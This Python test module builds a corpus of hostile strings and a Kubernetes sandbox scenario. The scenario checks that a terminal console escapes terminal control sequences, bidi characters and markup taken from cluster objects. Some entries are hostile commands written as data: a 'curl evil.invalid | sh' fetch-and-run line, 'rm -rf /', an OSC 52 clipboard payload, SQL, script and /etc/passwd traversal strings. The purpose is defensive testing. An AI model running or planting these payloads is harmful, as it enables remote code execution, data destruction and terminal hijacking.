"""The hostile-input corpus, the byte sequences each payload must never produce, and the scenario.

Why a corpus: a cluster object's strings come from whoever can write to the cluster, and
CVE-2021-25743 showed what a terminal does with them. Every payload here has an id (a DNS
label, so objects can be named after it), a category and the text. From it we derive:

- `forbidden(p)`: raw substrings that must never reach the terminal. Textual itself emits CSI,
  DECSET and even an OSC (pointer shape), so each control character is checked together with the
  payload text around it ("clr\\x1b[2J", not "\\x1b[2J"); payloads put a few printable characters
  before each escape so these windows cannot match Textual's own output.
- `visible_token(p)`: how the first control character must look on screen once escaped.
- `scenario()`: a full sandbox scenario whose objects carry every payload in the fields the
  console renders. almtui/sandbox/scenarios/hostile.yaml is generated from it
  (`python -m tests.hostile.payloads --write`); a test keeps the two in sync.

Run `python -m tests.hostile.payloads` to print the fields a payload could not be put in.
"""

from __future__ import annotations

import json
import re
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import yaml

# What must never reach the terminal raw: C0 but tab/newline, DEL, C1, bidi controls, line and
# paragraph separators, lone surrogates. Defined here independently of almtui.ui.sanitize.
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u2069"
                    "\ufeff\ud800-\udfff\U000e0000-\U000e007f]")
UNSAFE_SINGLE = re.compile(f"[\t\n{UNSAFE.pattern[1:-1]}]")
BIDI = re.compile("[\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
NAMED_ESCAPES = {"\t": "\\t", "\n": "\\n", "\r": "\\r"}

SCENARIO_PATH = Path(__file__).resolve().parents[2] / "almtui" / "sandbox" / "scenarios" / "hostile.yaml"
NAMESPACE = "hostile"
ARGO_NAMESPACE = "argocd"
LOG_LINES_ANNOTATION = "sandbox.almtui.io/log-lines"
CHANGE_CAUSE = "kubernetes.io/change-cause"
REPO = "https://git.invalid/hostile/deploy.git"
REPO_SHA = "5f0c4e1f6d2a8b9c0d1e2f3a4b5c6d7e8f9a0b1c"
DONE_AT = ("2025-01-01T00:00:00Z", "2025-01-01T00:03:00Z")  # start and finish of the finished runs


@dataclass(frozen=True)
class Payload:
    id: str
    category: str
    text: str
    scenario: bool = True  # False: cannot come from a real API server (e.g. lone surrogates)


def _p(id: str, category: str, text: str, scenario: bool = True) -> Payload:
    return Payload(id, category, text, scenario)


PAYLOADS: tuple[Payload, ...] = (
    # -- CSI and other ESC sequences ------------------------------------------------------------
    _p("csi-clear-screen", "csi", "clr\x1b[2J\x1b[3Jcleared-csi-clear-screen"),
    _p("csi-cursor-home", "csi", "hom\x1b[Hoverwrites-top-left"),
    _p("csi-cursor-position", "csi", "cup\x1b[20;10Hmoved-here"),
    _p("csi-sgr-256", "csi", "sgr\x1b[38;5;199mpink-csi-sgr-256\x1b[0m"),
    _p("csi-sgr-blink-reverse", "csi", "blk\x1b[5;7;38;2;1;2;3mblink-reverse\x1b[m"),
    _p("csi-alt-screen", "csi", "alt\x1b[?1049hALT-SCREEN\x1b[?1049l"),
    _p("csi-hide-cursor", "csi", "hid\x1b[?25lcursor-hidden"),
    _p("csi-erase-up", "csi", "era\x1b[2K\x1b[1A\x1b[2Kerased-line-above"),
    _p("csi-mouse-tracking", "csi", "mse\x1b[?1000h\x1b[?1006h\x1b[?1003hmouse-on"),
    _p("csi-device-status", "csi", "dsr\x1b[6n\x1b[c\x1b[>0cterminal-answers-on-stdin"),
    _p("csi-window-ops", "csi", "win\x1b[8;1;1t\x1b[21t\x1b[2tresize-and-report"),
    _p("csi-scroll-region", "csi", "scr\x1b[1;2r\x1b[5Lscroll-region"),
    _p("csi-bracketed-paste", "csi", "bpm\x1b[?2004l\x1b[201~pasted"),
    _p("esc-full-reset", "csi", "ris\x1bcfull-reset"),
    _p("esc-decaln", "csi", "aln\x1b#8screen-of-E"),
    _p("esc-save-restore", "csi", "sav\x1b7moved\x1b8restored"),
    _p("esc-charset-g0", "csi", "g0c\x1b(0lqqqk\x1b(Bline-drawing"),
    _p("esc-trailing", "csi", "trailing-esc\x1b"),
    _p("esc-double", "csi", "dbl\x1b\x1b[[Aup"),
    # -- OSC ---------------------------------------------------------------------------------------
    _p("osc-title-bel", "osc", "ttl\x1b]0;ALMTUI-PWN-osc-title-bel\x07"),
    _p("osc-title-st", "osc", "ttl\x1b]2;ALMTUI-PWN-osc-title-st\x1b\\"),
    _p("osc-icon-name", "osc", "ico\x1b]1;ALMTUI-PWN-osc-icon-name\x07"),
    _p("osc8-hyperlink", "osc", "lnk\x1b]8;;https://evil.invalid/osc8-hyperlink\x1b\\click-me\x1b]8;;\x1b\\"),
    _p("osc52-clipboard", "osc", "clp\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuaW52YWxpZCB8IHNo\x07"),
    _p("osc52-clipboard-query", "osc", "clq\x1b]52;c;?\x07"),
    _p("osc4-palette", "osc", "pal\x1b]4;1;rgb:ff/00/ff\x07\x1b]10;#ff00ff\x07recoloured"),
    _p("osc7-cwd", "osc", "cwd\x1b]7;file://evil.invalid/etc/shadow\x07"),
    _p("osc9-notify", "osc", "ntf\x1b]9;ALMTUI-PWN-notify\x07\x1b]777;notify;pwn;body\x07"),
    _p("osc1337-iterm-file", "osc", "itm\x1b]1337;File=name=cHdu;inline=1:QUFBQQ==\x07"),
    _p("osc11-colour-query", "osc", "bgq\x1b]11;?\x07\x1b]10;?\x1b\\"),
    _p("osc-unterminated", "osc", "unt\x1b]0;ALMTUI-PWN-unterminated swallows the rest"),
    # -- DCS, APC, PM, SOS -----------------------------------------------------------------------
    _p("dcs-xtgettcap", "dcs", "tcp\x1bP+q544e\x1b\\"),
    _p("dcs-sixel", "dcs", "six\x1bPq#0;2;0;0;0#0~~@@vv\x1b\\"),
    _p("dcs-decrqss", "dcs", "rqs\x1bP$qm\x1b\\"),
    _p("apc-kitty-graphics", "dcs", "kit\x1b_Ga=T,f=100;AAAA\x1b\\"),
    _p("pm-privacy-message", "dcs", "pmx\x1b^privacy-message\x1b\\"),
    _p("sos-string", "dcs", "sos\x1bXstart-of-string\x1b\\"),
    # -- C1 controls (8-bit forms of the above; terminals in UTF-8 mode may still act on them) ------
    _p("c1-csi", "c1", "c1c\x9b2J\x9b38;5;199mred"),
    _p("c1-osc", "c1", "c1o\x9d0;ALMTUI-PWN-c1-osc\x9c"),
    _p("c1-nel", "c1", "nel\x85next-line"),
    _p("c1-dcs", "c1", "c1d\x90+q544e\x9c"),
    _p("c1-apc-pm", "c1", "c1a\x9fapc\x9c\x9epm\x9c"),
    _p("c1-ss2-ss3-ind", "c1", "c1s\x8e\x8f\x84\x88\x8dreverse-index"),
    # -- C0 controls -------------------------------------------------------------------------------
    _p("bel", "c0", "bel\x07\x07\x07ding"),
    _p("cr-overwrite", "c0", "ok\rFAILED"),
    _p("backspace-overwrite", "c0", "safe\x08\x08\x08\x08evil"),
    _p("nul", "c0", "nul\x00byte"),
    _p("del", "c0", "del\x7fete"),
    _p("vt-ff", "c0", "vtf\x0bvertical\x0cformfeed"),
    _p("shift-out-in", "c0", "sho\x0elqqk\x0fshifted"),
    _p("c0-assorted", "c0", "c0x\x01\x02\x03\x04\x05\x06\x10\x11\x13\x18\x1a\x1c\x1d\x1e\x1fend"),
    _p("tab", "c0", "tab\tcolumn\tshift"),
    # -- newline injection (single-line fields) ---------------------------------------------------
    _p("newline-fake-row", "newline", "api-7d9f\nprod       storefront    ✓ Healthy    3/3"),
    _p("crlf-fake-status", "newline", "msg\r\n\x1b[32m✓ Healthy (fake)\x1b[0m"),
    _p("line-separator", "newline", "lsp\u2028second-line\u2029third-paragraph"),
    _p("trailing-newlines", "newline", "trail\n\n\n"),
    # -- bidi (Trojan Source) ---------------------------------------------------------------------
    _p("bidi-rlo-filename", "bidi", "invoice\u202eexe.fdp"),
    _p("bidi-rlo-version", "bidi", "ver\u202e0.1.2-rc"),
    _p("bidi-isolates", "bidi", "iso\u2066LRI\u2067RLI\u2068FSI\u2069PDI"),
    _p("bidi-embeddings", "bidi", "emb\u202aLRE\u202bRLE\u202cPDF\u202dLRO\u202c"),
    _p("bidi-marks", "bidi", "mrk\u200eLRM\u200fRLM\u061cALM"),
    _p("bidi-trojan-source", "bidi", 'access = "user\u202e \u2066// admin only\u2069 \u2066"'),
    # -- invisible and look-alike characters (not controls: shown as they are) --------------------
    _p("zero-width", "invisible", "zw\u200dj\u200cn\u200bs\u2060w\ufeffb"),
    _p("soft-hyphen-tags", "invisible", "pro\u00add\U000e0070\U000e0077\U000e006e"),
    _p("homoglyph-prod", "invisible", "prоd-ѕtorefront"),
    # -- Textual and Rich markup --------------------------------------------------------------------
    _p("markup-bold", "markup", "[b]bold-markup[/b]"),
    _p("markup-link", "markup", "[link=https://evil.invalid/markup-link]click[/link]"),
    _p("markup-click", "markup", "[@click=app.quit]quit-the-app[/]"),
    _p("markup-variable", "markup", "[$accent]accent[/] [on $error]err[/]"),
    _p("markup-style-soup", "markup", "[bold red on white blink reverse]loud[/]"),
    _p("markup-stray-close", "markup", "stray[/] close [/b]"),
    _p("markup-unclosed", "markup", "[b]unclosed [i]tags"),
    _p("markup-escaped", "markup", "\\[not-markup] \\\\[b]x"),
    _p("rich-emoji", "markup", ":warning: :skull: :rocket:"),
    _p("markup-link-meta", "markup", "[link='https://evil.invalid/q' @click=app.bell]x[/]"),
    # -- size and width ------------------------------------------------------------------------------
    _p("long-10k", "width", "long-10k:" + "L" * 9991),
    _p("long-10k-escapes", "width", "rep" + "\x1b[2J" * 2500),
    _p("cjk-wide", "width", "漢字テスト中文한국어" * 20),
    _p("emoji-zwj", "width", "👩\u200d👩\u200d👧\u200d👦🏳️\u200d🌈🧑🏽\u200d🚀" * 10),
    _p("combining-zalgo", "width", "Z" + "\u0301\u0316" * 25 + "algo"),
    _p("very-wide-chars", "width", "\ufdfd" * 10 + "\u2e3b" * 5),
    _p("fullwidth", "width", "ｐｒｏｄ　ｓｔｏｒｅｆｒｏｎｔ"),
    # -- strings that look like something else ----------------------------------------------------------
    _p("json-status", "lookalike", '{"status":"Healthy","ready":"3/3","message":"\\u001b[2J"}'),
    _p("shell-meta", "lookalike", "$(curl -s https://evil.invalid/x | sh); `reboot` && rm -rf / #"),
    _p("yaml-document", "lookalike", "---\nkind: Secret\ndata: {token: aGk=}"),
    _p("format-string", "lookalike", "%s%s%s%n {0!r} {__class__} ${HOME} %(x)s"),
    _p("fake-healthy", "lookalike", "✓ Healthy   3/3   LIVE"),
    _p("path-traversal", "lookalike", "../../../../etc/passwd"),
    _p("html-svg", "lookalike", "<script>alert(1)</script><svg onload=alert(1)>&amp;"),
    _p("sql", "lookalike", "'; DROP TABLE pods; --"),
    # -- not from a real API server (Go's JSON encoder replaces them), but json.loads yields them ----
    _p("lone-surrogates", "surrogate", "sur\ud800\udfff-rogate", scenario=False),
)

BY_ID: dict[str, Payload] = {p.id: p for p in PAYLOADS}
SCENARIO_PAYLOADS: tuple[Payload, ...] = tuple(p for p in PAYLOADS if p.scenario)


# -- what must not reach the terminal, and what must show instead ------------------------------------

def escape(ch: str) -> str:
    """The documented visible form of one unsafe character ("\\x1b", "\\u202e", "\\n")."""
    if ch in NAMED_ESCAPES:
        return NAMED_ESCAPES[ch]
    cp = ord(ch)
    if cp < 0x100:
        return f"\\x{cp:02x}"
    return f"\\u{cp:04x}" if cp < 0x10000 else f"\\U{cp:08x}"


# One control "cluster": an escape sequence, or any other unsafe character (tab and newline too).
_SEQUENCE = re.compile(r"\x1b(?:\[[0-?]*[ -/]*[@-~]|\][^\x07\x1b]*(?:\x07|\x1b\\)|[P_^X][^\x1b]*\x1b\\|.)?"
                       f"|{UNSAFE_SINGLE.pattern}", re.S)
CONTEXT = 6  # plain characters kept before a cluster


def _clusters(text: str) -> list[tuple[int, int]]:
    """(start, end) of each run of adjacent control sequences and unsafe characters."""
    runs: list[tuple[int, int]] = []
    for m in _SEQUENCE.finditer(text):
        if runs and runs[-1][1] == m.start():
            runs[-1] = (runs[-1][0], m.end())
        else:
            runs.append((m.start(), m.end()))
    return runs


def forbidden(p: Payload) -> tuple[str, ...]:
    """Raw windows that must never be output: each control cluster with the plain text before it.

    A window starts on up to CONTEXT characters of the payload's own text, so it cannot match the
    escape sequences Textual writes itself; it runs into the cluster (8 characters at most) and the 3
    characters after it.
    """
    out: dict[str, None] = {}
    prev_end = 0
    for start, end in _clusters(p.text):
        k = max(prev_end, start - CONTEXT)
        if k < start:  # a cluster at the very start has no anchor: the global checks cover it
            out[p.text[k: min(start + 8, end + 3)]] = None
        prev_end = end
    return tuple(out)


def anchored(p: Payload) -> bool:
    """Every control cluster of `p` has payload text before it (so `forbidden` covers all of them)."""
    return all(start > 0 for start, _ in _clusters(p.text))


def visible_token(p: Payload) -> str | None:
    """The first unsafe character escaped, with the 3 characters before it (None: nothing to escape)."""
    m = UNSAFE_SINGLE.search(p.text)
    if m is None:
        return None
    i = m.start()
    before = "".join(escape(c) if UNSAFE_SINGLE.match(c) else c for c in p.text[max(0, i - 3): i])
    return before + escape(m.group())


def expected_single_line(text: str) -> str:
    """What a single-line field must show for `text` (untruncated): every unsafe character escaped."""
    return UNSAFE_SINGLE.sub(lambda m: escape(m.group()), text)


# -- where each payload can go --------------------------------------------------------------------

IMAGE_PREFIX = "registry.invalid/hostile/app:"


def image_ok(text: str) -> bool:
    """ValidatePodSpec: an image must be non-empty without leading or trailing whitespace."""
    image = IMAGE_PREFIX + text
    return image.strip() == image


def path_segment_ok(text: str) -> bool:
    """path.IsValidPathSegmentName: HPA scaleTargetRef names and metric names."""
    return text not in (".", "..") and "/" not in text and "%" not in text


# Fields that validation keeps free of every payload (for the report and the scenario's header).
NO_PAYLOAD_FIELDS = (
    "metadata.name, metadata.namespace and every other object name (DNS-1123 subdomain or label)",
    "label keys and values (qualified names; values <= 63 of [A-Za-z0-9._-])",
    "annotation keys (qualified names)",
    "container, port and volume names (DNS-1123 labels; IANA service names)",
    "Tekton pipeline task and step names (DNS-1123 labels, checked by Tekton's webhook); a hostile "
    "pipelineTaskName reaches the console only through a status write",
    "Node conditions, Deployment/ReplicaSet/Rollout status (rewritten by their controllers)",
)


def rejected_fields() -> dict[str, list[str]]:
    """Per field with partial validation, the payload ids it cannot hold."""
    return {
        "spec.containers[].image (no leading/trailing whitespace)":
            [p.id for p in SCENARIO_PAYLOADS if not image_ok(p.text)],
        "HPA spec.scaleTargetRef.name and External metric names (no '/', '%', '.', '..')":
            [p.id for p in SCENARIO_PAYLOADS if not path_segment_ok(p.text)],
    }


# -- the scenario -------------------------------------------------------------------------------------

SHORT = 512  # secondary fields get at most this much of a payload (keeps the scenario file small)


def _short(p: Payload) -> str:
    return p.text[:SHORT]


def _json(lines: list[str]) -> str:
    return json.dumps(lines, ensure_ascii=False)


def _name(p: Payload, suffix: str = "") -> str:
    return f"hx-{p.id}{suffix}"


def _deployment(p: Payload) -> dict[str, Any]:
    name = _name(p)
    image = IMAGE_PREFIX + _short(p) if image_ok(_short(p)) else "registry.invalid/hostile/app:1.0.0"
    return {
        "apiVersion": "apps/v1", "kind": "Deployment",
        "metadata": {"name": name, "namespace": NAMESPACE, "labels": {"app": name},
                     "annotations": {CHANGE_CAUSE: p.text}},
        "spec": {
            "replicas": 1,
            "selector": {"matchLabels": {"app": name}},
            "template": {
                "metadata": {"labels": {"app": name},
                             "annotations": {LOG_LINES_ANNOTATION: _json([_short(p), f"end-of-{p.id}"])}},
                "spec": {"containers": [{"name": "app", "image": image}]},
            },
        },
    }


def _log_deployment(payloads: tuple[Payload, ...]) -> dict[str, Any]:
    """One Deployment whose pod logs every payload, one per line, with the id before it."""
    lines: list[str] = []
    for p in payloads:
        lines += [f"--- {p.id}", p.text]
    return {
        "apiVersion": "apps/v1", "kind": "Deployment",
        "metadata": {"name": "hx-all-logs", "namespace": NAMESPACE, "labels": {"app": "hx-all-logs"},
                     "annotations": {CHANGE_CAUSE: "every payload in the log"}},
        "spec": {
            "replicas": 1,
            "selector": {"matchLabels": {"app": "hx-all-logs"}},
            "template": {
                "metadata": {"labels": {"app": "hx-all-logs"},
                             "annotations": {LOG_LINES_ANNOTATION: _json(lines)}},
                "spec": {"containers": [{"name": "app", "image": "registry.invalid/hostile/logger:1.0.0"}]},
            },
        },
    }


def _hpa(p: Payload) -> dict[str, Any]:
    """An HPA whose target and metric are named by the payload: the controller's messages repeat it."""
    return {
        "apiVersion": "autoscaling/v2", "kind": "HorizontalPodAutoscaler",
        "metadata": {"name": _name(p), "namespace": NAMESPACE},
        "spec": {
            "scaleTargetRef": {"apiVersion": "apps/v1", "kind": "Deployment", "name": _short(p)},
            "minReplicas": 1, "maxReplicas": 3,
            "metrics": [{"type": "External", "external": {"metric": {"name": _short(p)},
                                                          "target": {"type": "Value", "value": "10"}}}],
        },
    }


def _failed_pod(p: Payload, n: int, node: str) -> dict[str, Any]:
    """A terminal pod (the kubelet leaves those alone) whose status messages carry the payload."""
    status: dict[str, Any] = {"phase": "Failed", "startTime": DONE_AT[0]}
    if n % 2 == 0:
        status.update({"reason": "Evicted", "message": p.text})
    else:
        status.update({"reason": "CreateContainerConfigError", "message": _short(p)})
        status["containerStatuses"] = [{
            "name": "app", "image": "registry.invalid/hostile/app:1.0.0", "imageID": "", "ready": False,
            "restartCount": 0, "started": False,
            "state": {"waiting": {"reason": "CreateContainerConfigError", "message": p.text}},
        }]
    return {
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": _name(p, "-failed"), "namespace": NAMESPACE, "labels": {"app": "hx-failed"}},
        "spec": {"nodeName": node, "restartPolicy": "Never",
                 "containers": [{"name": "app", "image": "registry.invalid/hostile/app:1.0.0"}]},
        "status": status,
    }


def _event(p: Payload, n: int) -> dict[str, Any]:
    """A core/v1 Event without eventTime: the API server validates none of its strings."""
    short = len(p.text) <= 64
    return {
        "apiVersion": "v1", "kind": "Event",
        "metadata": {"name": f"hx-{n:03d}.{p.id}", "namespace": NAMESPACE},
        "involvedObject": {"kind": "Pod", "namespace": NAMESPACE,
                           "name": _short(p) if p.category == "markup" else _name(p, "-failed")},
        "type": "Warning",
        "reason": p.text if short else "HostilePayload",
        "message": p.text,
        "source": {"component": "hostile-writer"},
        "count": 1,
    }


def _pipeline(payloads: tuple[Payload, ...]) -> dict[str, Any]:
    """A Pipeline whose free-text fields (displayName, description, param defaults) carry payloads."""
    tasks = []
    for k, p in enumerate(payloads[:12]):
        tasks.append({"name": f"task-{k:02d}", "displayName": _short(p), "description": _short(p),
                      "taskSpec": {"steps": [{"name": "run", "image": "registry.invalid/hostile/step:1.0.0",
                                              "script": f"echo {json.dumps(_short(p))}"}]}})
    return {
        "apiVersion": "tekton.dev/v1", "kind": "Pipeline",
        "metadata": {"name": "hx-build", "namespace": NAMESPACE},
        "spec": {"description": payloads[0].text,
                 "params": [{"name": "revision", "type": "string", "default": payloads[1].text,
                             "description": payloads[2].text}],
                 "tasks": tasks},
    }


def _pipeline_run(p: Payload) -> dict[str, Any]:
    """A finished PipelineRun (the controller leaves finished runs alone): param, message, task name.

    Its TaskRun is not created, so the run's only task shows as not started.
    """
    run = _name(p, "-run")
    return {
        "apiVersion": "tekton.dev/v1", "kind": "PipelineRun",
        "metadata": {"name": run, "namespace": NAMESPACE, "labels": {"tekton.dev/pipeline": "hx-build"}},
        "spec": {"pipelineRef": {"name": "hx-build"}, "params": [{"name": "revision", "value": _short(p)}]},
        "status": {"startTime": DONE_AT[0], "completionTime": DONE_AT[1],
                   "conditions": [{"type": "Succeeded", "status": "False", "reason": "Failed",
                                   "lastTransitionTime": DONE_AT[1], "message": _short(p)}],
                   "childReferences": [{"apiVersion": "tekton.dev/v1", "kind": "TaskRun", "name": f"{run}-build",
                                        "pipelineTaskName": _short(p)}]},
    }


def _application(p: Payload) -> dict[str, Any]:
    """An Argo CD Application: a hostile targetRevision makes the controller's own message repeat it."""
    return {
        "apiVersion": "argoproj.io/v1alpha1", "kind": "Application",
        "metadata": {"name": _name(p), "namespace": ARGO_NAMESPACE},
        "spec": {"project": "default",
                 "source": {"repoURL": REPO, "path": "hostile", "targetRevision": _short(p)},
                 "destination": {"server": "https://kubernetes.default.svc", "namespace": NAMESPACE}},
        "status": {
            "operationState": {
                "operation": {"sync": {"revision": "main"}, "initiatedBy": {"username": "hostile"}},
                "phase": "Failed", "message": _short(p), "startedAt": DONE_AT[0], "finishedAt": DONE_AT[1],
                "syncResult": {"revision": _short(p), "resources": []},
            },
            "history": [{"id": 0, "revision": _short(p), "deployedAt": DONE_AT[1],
                         "source": {"repoURL": REPO, "path": "hostile", "targetRevision": "main"}}],
        },
    }


def _git_repositories() -> dict[str, Any]:
    repos = {REPO: {"refs": {"main": REPO_SHA, "HEAD": REPO_SHA}, "commits": [REPO_SHA],
                    "paths": {"hostile": {REPO_SHA: {}}}}}
    return {"apiVersion": "v1", "kind": "ConfigMap",
            "metadata": {"name": "sandbox-git-repositories", "namespace": ARGO_NAMESPACE},
            "data": {"repositories.yaml": yaml.safe_dump(repos, sort_keys=False)}}


def scenario() -> dict[str, Any]:
    """The hostile scenario: every payload in every field the console renders that can hold it."""
    nodes = ("edge-hostile-a", "edge-hostile-b")
    objects: list[dict[str, Any]] = [_git_repositories(), _pipeline(SCENARIO_PAYLOADS),
                                     _log_deployment(SCENARIO_PAYLOADS)]
    for n, p in enumerate(SCENARIO_PAYLOADS):
        objects.append(_deployment(p))
        if path_segment_ok(p.text):
            objects.append(_hpa(p))
        objects.append(_failed_pod(p, n, nodes[n % 2]))
        objects.append(_event(p, n))
        objects.append(_pipeline_run(p))
        objects.append(_application(p))
    return {
        "name": "hostile",
        "description": "Objects whose strings carry terminal escapes, bidi controls and markup (tests/hostile).",
        "settle": 30,
        "users": [{"name": "operator", "role": "cluster-admin"}, {"name": "viewer", "role": "view"}],
        "nodes": [{"name": n, "cpu": "32", "memory": "64Gi", "pods": 500} for n in nodes],
        "namespaces": [NAMESPACE, ARGO_NAMESPACE],
        "objects": objects,
    }


HEADER = """\
# GENERATED by `python -m tests.hostile.payloads --write` from tests/hostile/payloads.py: do not edit.
#
# A hostile edge site: every string the console shows that a cluster user can set carries a payload
# (terminal escapes, C1 and bidi controls, Textual/Rich markup, huge and very wide strings). Each
# payload is in a Warning Event's message, a Deployment's change-cause and image (when the image
# rules allow), its pods' log lines (annotation sandbox.almtui.io/log-lines), an HPA's target and
# metric names (when path-segment rules allow), a Failed pod's status messages, a finished
# PipelineRun (param, condition message, pipelineTaskName) and an Argo CD Application
# (targetRevision, operationState message and revisions); the Pipeline hx-build holds some in its
# displayName, description and param fields.
#
# Never rendered raw, as every one of these would be acted on by the terminal. Run it with
#   almtui sandbox --scenario almtui/sandbox/scenarios/hostile.yaml --kubeconfig /tmp/hostile.kubeconfig
"""


def render_yaml() -> str:
    """The scenario as YAML; every non-ASCII or control character is written as an escape."""
    body = yaml.safe_dump(scenario(), sort_keys=False, allow_unicode=False, width=120)
    return HEADER + body


def main(argv: list[str]) -> int:
    if "--write" in argv:
        SCENARIO_PATH.write_text(render_yaml(), encoding="utf-8")
        print(f"wrote {SCENARIO_PATH}")
        return 0
    print(f"{len(PAYLOADS)} payloads ({len(SCENARIO_PAYLOADS)} in the scenario)")
    for where, ids in rejected_fields().items():
        print(f"{where}: cannot hold {', '.join(ids) or 'nothing rejected'}")
    for where in NO_PAYLOAD_FIELDS:
        print(f"no payload at all: {where}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
